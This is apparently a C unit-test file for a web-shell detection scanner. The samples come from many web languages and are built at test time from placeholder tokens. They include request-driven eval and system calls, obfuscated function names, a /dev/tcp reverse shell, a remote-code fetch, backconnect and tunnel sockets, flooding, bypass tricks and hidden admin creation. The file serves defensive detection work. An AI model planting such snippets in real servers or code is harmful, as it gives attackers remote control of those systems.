/* The structural look at programs of web servers. Look-alikes of backdoors are put together when
 * the test runs (#E and the like stand for words), so that nothing here is one; none is ever run.
 */
#include "base/mem.h"
#include "scan/php_token.h"
#include "scan/php_value.h"
#include "scan/scan.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "guard.h"

static const struct {
    char sign;
    const char *word;
} words[] = {{'E', "ev"
                   "al"},
             {'A', "ass"
                   "ert"},
             {'P', "$_PO"
                   "ST"},
             {'G', "$_G"
                   "ET"},
             {'R', "$_REQ"
                   "UEST"},
             {'C', "$_COO"
                   "KIE"},
             {'F', "$_FI"
                   "LES"},
             {'S', "sys"
                   "tem"},
             {'T', "pass"
                   "thru"},
             {'X', "shell_"
                   "exec"},
             {'O', "po"
                   "pen"},
             {'Q', "Req"
                   "uest"},
             {'B', "base64_"
                   "decode"},
             {'D', "<?p"
                   "hp "}};

static struct text made(const char *source)
{
    static char room[8192];
    size_t len = 0;
    for (const char *at = source; *at && len < sizeof room - 64; at++) {
        const char *word = NULL;
        for (size_t i = 0; *at == '#' && i < sizeof words / sizeof words[0]; i++)
            word = words[i].sign == at[1] ? words[i].word : word;
        if (word == NULL) {
            room[len++] = *at;
            continue;
        }
        memcpy(room + len, word, strlen(word));
        len += strlen(word);
        at++;
    }
    return text_at(room, len);
}

static struct scan_found look(const char *name, struct text source)
{
    struct scan_found found = {0};
    struct arena arena = {0};
    scan_look(&found, text_of(name), source, &arena);
    arena_free(&arena);
    return found;
}

static void finds(void **state)
{
    (void)state;
    static const struct {
        const char *name, *source;
        enum scan_trait trait;
    } row[] = {
        {"a.php", "#D@#E(#P['a']);", SCAN_code_request},
        {"a.php", "#D$a = #R['x']; #A($a);", SCAN_code_request},
        {"a.php", "#D$f = 'as' . 'sert'; $f(#P[1]);", SCAN_code_request},
        {"a.php", "#D$f = 'as' . 'sert'; $f(#P[1]);", SCAN_name_made},
        {"a.php", "#D#G['f'](#G['x']);", SCAN_call_request},
        {"a.php", "#D#S(#G['c'] . ' 2>&1');", SCAN_command_request},
        {"a.php", "#Decho `{#P['c']}`;", SCAN_command_request},
        {"a.php", "<?=`#G[0]`?>", SCAN_command_request},
        {"a.php", "#Dpreg_replace('/.*/e', #P['a'], 'x');", SCAN_code_request},
        {"a.php",
         "#D$x = str_replace('z', '', 'bzazsze64_zdezcode'); $y = $x('ZWNobyAxOw=='); #E($y);",
         SCAN_code_packed},
        {"a.php", "#Dfunction ex($c) { return #X($c); } if (#P['c']) echo ex(#P['c']);",
         SCAN_command_request},
        {"a.php", "#Dif (#P['c']) echo ex(#P['c']); function ex($c) { return #X($c); }",
         SCAN_command_request}, /* what stands further down */
        {"a.php", "#Dcall_user_func('#A', #P['x']);", SCAN_code_request},
        {"a.php", "#Darray_map('ass' . 'ert', array(#P['x']));", SCAN_code_request},
        {"a.php", "#Dextract(#P); @#E($code);", SCAN_variables_request},
        {"a.php", "#Dforeach (#P as $k => $v) { $$k = $v; } #S($cmd);", SCAN_variables_request},
        {"a.php",
         "#D$p = file_get_contents('php://input'); class C { function __invoke($p) { #E($p . ''); "
         "} } "
         "@call_user_func(new C(), $p);",
         SCAN_code_request},
        {"a.php",
         "#Dclass A { public $x; function __destruct() { @#E($this->x); } } $a = new A; $a->x = "
         "#P['q'];",
         SCAN_code_request},
        {"a.php",
         "#D$_ = ('#' ^ '|') . ('.' ^ '~') . ('/' ^ '`') . ('|' ^ '/') . ('{' ^ '/'); "
         "${$_}['a'](${$_}['b']);",
         SCAN_call_request},
        {"a.php",
         "#D$s = 'abcdefrst'; $f = $s[0] . $s[7] . $s[7] . $s[4] . $s[6] . $s[8]; $f(#P['a']);",
         SCAN_code_request},
        {"a.php", "#D#E(gzinflate(#B('S03OyFcw1DPXUQAA')));", SCAN_code_packed},
        {"a.php", "#D#E('?>' . file_get_contents('http://x.example/a.txt'));", SCAN_code_remote},
        {"a.php", "#Dinclude(#G['p']);", SCAN_include_request},
        {"a.php", "#D@include '/var/www/favicon_1a.ico';", SCAN_include_data},
        {"a.php", "#Dfile_put_contents(#P['n'], #P['c']);", SCAN_write_request},
        {"a.php", "#Dfwrite(fopen('x.php', 'w'), #B(#P['b']));", SCAN_write_request},
        {"a.php", "#Dmove_uploaded_file(#F['f']['tmp_name'], #F['f']['name']);", SCAN_upload_plain},
        {"a.php", "#D$s = fsockopen($h, 80); proc_open('/bin/sh -i', array($s), $p);",
         SCAN_backconnect},
        {"a.php", "#D#E($_SERVER['HTTP_X_C']);", SCAN_code_request},
        {"a.php", "#D$x = <<<'E'\n#P\nE;\n$h = getallheaders(); #E($h['X']);", SCAN_code_request},
        {"a.php", "<script language=\"php\">@#E(#P[1]);</script>", SCAN_code_request},
        {"a.jpg", "GIF89a#D@#E(#P[1]);", SCAN_in_picture},
        {"a.php",
         "#Dgoto a1; a1: goto a2; a2: goto a3; a3: goto a4; a4: goto a5; a5: goto a6; a6: goto a7; "
         "a7: goto a8; a8: goto a9; a9: goto b1; b1: goto b2; b2: goto b3; b3: echo 1;",
         SCAN_garbled},
        {"a.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
         SCAN_command_request},
        {"a.jsp",
         "<%! Class g(byte[] b) { return super.defineClass(b, 0, 1); } %><% "
         "g(request.getReader()); %>",
         SCAN_code_request},
        {"a.asp", "<%#E #Q(\"a\")%>", SCAN_code_request},
        {"a.asp", "<% Set o = Server.CreateObject(\"WScript.Shell\"): o.exec(#Q(\"c\")) %>",
         SCAN_command_request},
        {"a.aspx", "<%@ Page Language=\"Jscript\"%><%#E(#Q.Item[\"a\"],\"unsafe\");%>",
         SCAN_code_request},
        {"a.ashx", "<%@ WebHandler %> Assembly.Load(Convert.FromBase64String(#Q[\"x\"]))",
         SCAN_code_request},
        {"a.pl",
         "#!/usr/bin/perl\nprint \"Content-type: text/html\\n\\n\";\nmy $c = param('c');\nprint "
         "`$c`;\n",
         SCAN_command_request},
        {"a.cgi", "#!/bin/sh\necho Content-type: text/plain\nX=\"$QUERY_STRING\"\nsh -c \"$X\"\n",
         SCAN_command_request},
        {"a.py", "import socket\ns=socket.socket()\nos.dup2(s.fileno(),0)\np(['/bin/sh','-i'])\n",
         SCAN_backconnect},
        {"a.php", "#Dclass B { function __construct($c) { #S($c); } } new B(#G['c']);",
         SCAN_command_request},
        {"a.php", "#Dextract(#R); $a($b);", SCAN_variables_request},
        {"a.php", "#Dusort(...#G);", SCAN_call_request},
        {"a.php", "#D$e = end(#F); include $e['tmp_name'];", SCAN_include_request},
        {"a.php", "#Dinclude('data://text/plain;base64,' . #P['d']);", SCAN_include_data},
        {"a.php", "#Dpcntl_exec('/bin/bash', array('-c', #R['c']));", SCAN_command_request},
        {"a.php", "#D$a = ''; foreach ([101, 118] as $c) $a .= chr($c); $a(#P['k']);",
         SCAN_name_hidden},
        {"a.php", "#Dob_start('#S'); echo #G['c'];", SCAN_output_run},
        {"a.jsp",
         "<% Class.forName(n).getMethod(\"exec\", String.class).invoke(o, "
         "request.getParameter(\"c\")); %>",
         SCAN_command_request},
        {"a.asp", "<% #E(chr(clng(\"&H\" & mid(s, 1, 2)))) %>", SCAN_code_packed},
        {"a.asmx",
         "<%@ WebService Language=\"JScript\" %> WebMethod f(x) { return #E(x, \"unsafe\"); }",
         SCAN_code_request},
        {"a.py",
         "from flask import Flask, request\n    return subprocess.check_output("
         "request.args.get('c'), shell=True)\n",
         SCAN_command_request},
        {"a.py",
         "import cgi\nprint('Content-type: text/html')\nf = cgi.FieldStorage()\n"
         "os.#S(f.getvalue('c'))\n",
         SCAN_command_request},
        /* nameless functions */
        {"a.php", "#Darray_walk(#P, function ($v) { #E($v); });", SCAN_code_request},
        {"a.php", "#D(fn($x) => #E($x))(#P['a']);", SCAN_code_request},
        {"a.php", "#D$f = 'x'; g(function ($a) use ($f) { return #S($a); }, #G['c']);",
         SCAN_command_request},
        {"a.php", "#Dpreg_replace_callback('/.+/', create_function('$m', '#A($m[0]);'), #R['p']);",
         SCAN_code_request},
        {"a.php", "#D$m->addServer('h', create_function('$a', 'return #A($a);')); f(#R['p']);",
         SCAN_code_lambda},
        {"a.php", "#Dob_start(function ($c) { #E($c); }); echo #P['x'];", SCAN_output_run},
        /* objects, constants and lists that stand for a function */
        {"a.php", "#D$f = new ReflectionFunction('#S'); $f->invoke(#G[0]);", SCAN_command_request},
        {"a.php", "#D$o = new SplFileObject(#G['f'], 'w'); $o->fwrite(#P['d']);",
         SCAN_write_request},
        {"a.php", "#Dclass L { function __destruct() { #E($this->d); } } unserialize(#B(#C['s']));",
         SCAN_code_request},
        {"a.php", "#Dclass C { function __call($n, $a) { $n($a[0]); } } $c->{#G['f']}(1);",
         SCAN_call_request},
        {"a.php", "#Ddefine('A', 'sys'); const B = 'tem'; $f = A . B; $f(#G['x']);",
         SCAN_command_request},
        {"a.php", "#D$a = array('s', 'y', 's', 't', 'e', 'm'); $b = implode('', $a); $b(#G['c']);",
         SCAN_command_request},
        {"a.php",
         "#D$p = explode('|', 'base|64_|decode'); $f = $p[0] . $p[1] . $p[2]; $f(#G['c']);",
         SCAN_name_made},
        {"a.php",
         "#Dforeach (array('_COOKIE', '_POST') as $s) foreach ($$s as $k => $v) $$k = $v; "
         "#E($run);",
         SCAN_variables_request},
        {"a.php", "#D$d->sqliteCreateFunction('f', #R['e'], 1);", SCAN_call_request},
        /* files */
        {"a.php", "#D$f = fopen(#G['f'], 'w'); fwrite($f, stripslashes(#P['c']));",
         SCAN_write_request},
        {"a.php", "#Dfile_put_contents('a.php', file_get_contents('http://x.example/a'));",
         SCAN_write_remote},
        {"a.php", "#D@include(#B('L3RtcC9zZXNz'));", SCAN_include_hidden},
        {"a.php", "#Dstream_wrapper_register('x', 'W'); include 'x://a';", SCAN_include_data},
        {"a.php", "#D$z->extractTo(#P['d']);", SCAN_write_request},
        {"a.php", "#Dmail(trim($e = #P['to']), #P['s'], #P['m']);", SCAN_mailer},
        {"a.php", "#Dexec('bash -c \"bash -i >& /dev/tcp/192.0.2.1/1 0>&1\"');", SCAN_backconnect},
        {"a.php", "#Dputenv('LD_PRELOAD=' . #G['l']); mail('', '', '');", SCAN_bypass},
        {"a.php", "#D$f = FFI::cdef('int #S(char *c);'); $f->#S(#G['c']);", SCAN_bypass},
        {".htaccess", "AddType application/x-httpd-php .jpg\n", SCAN_config},
        {".user.ini", "auto_prepend_file=logo.gif\n", SCAN_config},
        {"web.config", "<configuration/><!--<% #E(#Q(\"c\")) %>-->", SCAN_code_request},
        /* words in pieces */
        {"a.asp", "<% Set o = CreateObject(\"WSc\" & \"ript.Shell\"): o.exec(#Q(\"c\")) %>",
         SCAN_command_request},
        {"a.jsp", "<% Runtime.getRuntime().\\u0065\\u0078ec(#Q.getParameter(\"c\")); %>",
         SCAN_command_request},
        {"a.jsp", "<% Runtime./**/getRuntime()./* x */exec(request.getParameter(\"c\")); %>",
         SCAN_command_request},
        {"a.jsp", "<% new javax.el.ELProcessor().eval(request.getParameter(\"e\")); %>",
         SCAN_code_request},
        {"a.jsp",
         "<% SocketChannel s = SocketChannel.open(); s.connect(request.getHeader(\"X-TARGET\")); "
         "session.setAttribute(\"socket\", s); %>",
         SCAN_tunnel},
        {"a.aspx",
         "<% var s = new System.Net.Sockets.Socket(f); s.Connect(#Q.QueryString[\"t\"]); "
         "Session.Add(\"s\", s); %>",
         SCAN_tunnel},
        /* words made by functions and lists */
        {"a.php",
         "#D$f = strtr('kskuxm', ['k' => 's', 's' => 'y', 'u' => 't', 'x' => 'e']); $f(#P[1]);",
         SCAN_command_request},
        {"a.php", "#D$f = strtr('abc', 'abc', 'sys') . 'tem'; $f(#P[1]);", SCAN_command_request},
        {"a.php", "#D$v = sprintf('%s%s', 'pass', 'thru'); $v(#G['x']);", SCAN_command_request},
        {"a.php",
         "#D$f = implode(array_map('chr', explode(' ', '115 121 115 116 101 109'))); $f(#G[1]);",
         SCAN_command_request},
        {"a.php", "#D$k = \"ev\\x61l\"; $p = '_PO'.'ST'; @#A(\"$k(\\${$p}[z])\");",
         SCAN_code_request},
        {"a.php", "#Dforeach (array('exec', '#S') as $f) echo $f(#R['c']);", SCAN_command_request},
        {"a.php", "#D#E(get_option('x'));", SCAN_code_stored},
        {"a.php", "#D@include_once('/tmp/.a');", SCAN_include_data},
        {"a.php", "#Dfile_put_contents(#G['d'], file_get_contents(#G['u']));", SCAN_write_request},
        {"a.php", "#D$s = stream_socket_client('tcp://h'); while ($c = fgets($s)) #X($c);",
         SCAN_command_remote},
        {"a.php", "#D$f = fsockopen('udp://' . #G['h']); while (1) fwrite($f, str_repeat('X', 9));",
         SCAN_flood},
        {"a.php", "#Dif (#G['a']) { $u = wp_create_user(1, 2); $u->set_role('administrator'); }",
         SCAN_admin},
        {".htaccess", "<FilesMatch \"\\.(jpg|gif)$\">\nSetHandler application/x-httpd-php\n",
         SCAN_config},
        {"a.ashx", "<%@ WebHandler %> File.CreateText(c.Server.MapPath(c.#Q[\"f\"]));",
         SCAN_write_request},
        {"a.asp", "<% x = unescape(\"%u0065\") & \" #Q(1)\": execute x %>", SCAN_code_packed},
        {"a.py", "from django.http import HttpResponse\nos.popen(request.GET['c'])\n",
         SCAN_command_request},
        {"a.cgi",
         "#!/bin/bash\necho Content-type: text/html\nread -n $CONTENT_LENGTH b\neval \"$b\"\n",
         SCAN_code_request},
        /* other languages */
        {"a.rb", "require 'cgi'\ncgi = CGI.new\nputs `#{cgi['c']}`\n", SCAN_command_request},
        {"a.js",
         "const c = require('child_process'); http.createServer((q, r) => "
         "c.exec(url.parse(q.url).query));",
         SCAN_command_request},
        {"a.lua", "local h = io.popen(ngx.req.get_uri_args().c)", SCAN_command_request},
        {"a.shtml", "<!--#exec cmd=\"$HTTP_X\" -->", SCAN_command_request},
        {"a.cfm", "<cfexecute name=\"x\" arguments=\"#url.c\"></cfexecute>", SCAN_command_request},
    };
    for (size_t i = 0; i < sizeof row / sizeof row[0]; i++) {
        struct scan_found found = look(row[i].name, made(row[i].source));
        if (found.trait[row[i].trait].times == 0)
            fail_msg("%s: no %s", row[i].source, scan_trait_table[row[i].trait].name);
    }
}

/* What honest programs do. */
static void leaves_alone(void **state)
{
    (void)state;
    static const char *const row[] = {
        "#D$id = (int) #G['id']; #S('ls ' . $id);",
        "#D#S('ping ' . escapeshellarg(#G['host']));",
        "#D#E('return ' . $template . ';');",
        "#D$c = new #G['class'](1);",
        "#D$object->$method(#P['x']);",
        "#Dif (in_array(#G['p'], $pages)) include 'pages/' . $page . '.php';",
        "#Dusort($list, 'strcmp'); echo htmlspecialchars(#G['q']);",
        "#Dfunction compare($a, $b) { return $a - $b; } $x = array_map('trim', #P['list']);",
        "#D// #E(#P['a'])\n/* #S(#G['x']) */ # #E(#P['a'])\necho '#E(#P[1])';",
        "#Dpreg_replace('/e/', #P['a'], 'x');",
        "#D$f = 'template_' . $name; $f(#P['x']);",
        "#Dfile_put_contents($cache, serialize($data));",
        "#Dmove_uploaded_file(#F['f']['tmp_name'], $folder . '/' . md5($x));",
        "#D$x = array_map(function ($v) { return htmlspecialchars($v); }, #P['list']);",
        "#D$f = fopen('/var/log/' . #G['n'], 'w'); fwrite($f, #P['x']);",
        "#D$o = unserialize(#B(#C['s'])); echo $o->name;",
        "#Dinclude __DIR__ . '/' . self::NAMES['a'];",
        "#Dforeach (array('trim', 'strtolower') as $f) $x = $f(#G['q']);",
        "#D$t = sprintf('%s and %s', 'a', 'b'); echo \"$t $x[y] {$z->a}\";",
        "#D$s = fsockopen($host, 25); fwrite($s, \"EHLO x\"); echo fgets($s);",
        "#Dmail('info@example.org', #P['subject'], #P['text']);",
        "#Dob_start(function ($html) { return trim($html); }); echo #G['q'];",
        "<html><?xml version=\"1.0\"?><p>#E(#P['a'])",
        "#D$text = \"it says {$x->y} and \\$z\"; $x = array('a' => 1, 'b' => [2, 3]);",
        "",
    };
    for (size_t i = 0; i < sizeof row / sizeof row[0]; i++) {
        struct scan_found found = look("a.php", made(row[i]));
        if (scan_weigh(&found) > 3.6)
            fail_msg("%s: %.1f", row[i], scan_weigh(&found));
    }
}

static void folds(void **state)
{
    (void)state;
    static const struct {
        const char *name, *in, *out;
    } row[] = {{"base64_decode", "aGVsbG8=", "hello"},
               {"base64_decode", "aGV\nsbG8", "hello"},
               {"strrev", "abc", "cba"},
               {"str_rot13", "Nop-1", "Abc-1"},
               {"hex2bin", "616263", "abc"},
               {"urldecode", "a%41%4", "aA%4"},
               {"strtolower", "ABc", "abc"},
               {"gzinflate", "\x4b\x4c\x4a\x06\x00", "abc"}};
    struct arena arena = {0};
    for (size_t i = 0; i < sizeof row / sizeof row[0]; i++) {
        struct php_value in = {.text = text_of(row[i].in)}, out = {0};
        if (strcmp(row[i].name, "gzinflate") == 0)
            in.text = text_at(row[i].in, 5);
        assert_true(php_fold(text_of(row[i].name), &in, 1, &arena, &out));
        assert_int_equal(out.text.len, strlen(row[i].out));
        assert_memory_equal(out.text.at, row[i].out, out.text.len);
    }
    arena_free(&arena);
    static const char *const sorted[] = {"assert", "usort", "ZLIB_decode",
                                         "\\exec", "array", "abs"};
    for (size_t i = 0; i < sizeof sorted / sizeof sorted[0]; i++)
        assert_non_null(php_function_find(text_of(sorted[i])));
    assert_null(php_function_find(text_of("array_ma")));
    assert_null(php_function_find(text_of("")));
}

static void tokens(void **state)
{
    (void)state;
    struct arena arena = {0};
    struct php_tokens t;
    php_tokens_make(&t, text_of("x<?= $a . 'b\\'c' . \"d\\x41\" . 0x1f; ?>y<? $e->f(); #g\n"),
                    &arena);
    static const enum php_kind kinds[] = {
        PHP_SIGN,   PHP_NAME, PHP_VARIABLE, PHP_SIGN, PHP_STRING,   PHP_SIGN, PHP_STRING, PHP_SIGN,
        PHP_NUMBER, PHP_SIGN, PHP_SIGN,     PHP_SIGN, PHP_VARIABLE, PHP_SIGN, PHP_NAME,   PHP_SIGN};
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++)
        assert_int_equal(t.at[i].kind, kinds[i]);
    assert_memory_equal(t.at[4].text.at, "b'c", 3);
    assert_memory_equal(t.at[6].text.at, "dA", 2);
    assert_int_equal(t.at[8].number, 31);
    assert_int_equal(t.at[t.len].kind, PHP_END);
    assert_int_equal(t.programs, 2);
    arena_free(&arena);
}

/* Deep, long and endless programs cost a bounded time and memory. */
static void bounded(void **state)
{
    (void)state;
    static const char *const parts[] = {"(",    "[",    "$a{", "f(",   "function f($x){",
                                        "`",    "\"$a", "$$",  "${",   "$a.=$a.'xxxxxxxxxxxxxxxx';",
                                        "new ", "->a",  "::b", "~'a'^"};
    enum { ROOM = 300000 };
    char *room = mem_new(ROOM + 64, 1);
    for (size_t i = 0; i < sizeof parts / sizeof parts[0]; i++) {
        size_t len = (size_t)snprintf(room, 64, "%.*s", (int)made("#D").len, made("#D").at);
        for (size_t part = strlen(parts[i]); len + part < ROOM; len += part)
            memcpy(room + len, parts[i], part);
        (void)look("a.php", text_at(room, len));
    }
    mem_free(room);
}

static void look_prefix(const uint8_t *bytes, size_t len, void *context)
{
    (void)look(context, text_at(bytes, len));
}

static void guarded(void **state)
{
    (void)state;
    char name_php[] = "a.php", name_cgi[] = "a.cgi", name_jsp[] = "a.jsp";
    struct text php = made(
        "#D$a = <<<E\n$b {$c}\nE;\n#E(\"\\x41\\101\\u{41}$d[1]\" . 'a\\'' . `c` . 0x1f . chr(65));"
        "/* x */ // y\n$f = $a{1}; foreach (#P as $k => $v) { $$k = ~$v ^ 'a'; } ?>");
    guard_prefixes(php.at, php.len, look_prefix, name_php);
    struct text cgi =
        made("#!/bin/sh\nContent-type: text\nmy $c = param('c');\n$d = $c;\nsystem($d);");
    guard_prefixes(cgi.at, cgi.len, look_prefix, name_cgi);
    guard_prefixes(cgi.at, cgi.len, look_prefix, name_jsp);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(finds),  cmocka_unit_test(leaves_alone), cmocka_unit_test(folds),
        cmocka_unit_test(tokens), cmocka_unit_test(bounded),      cmocka_unit_test(guarded),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
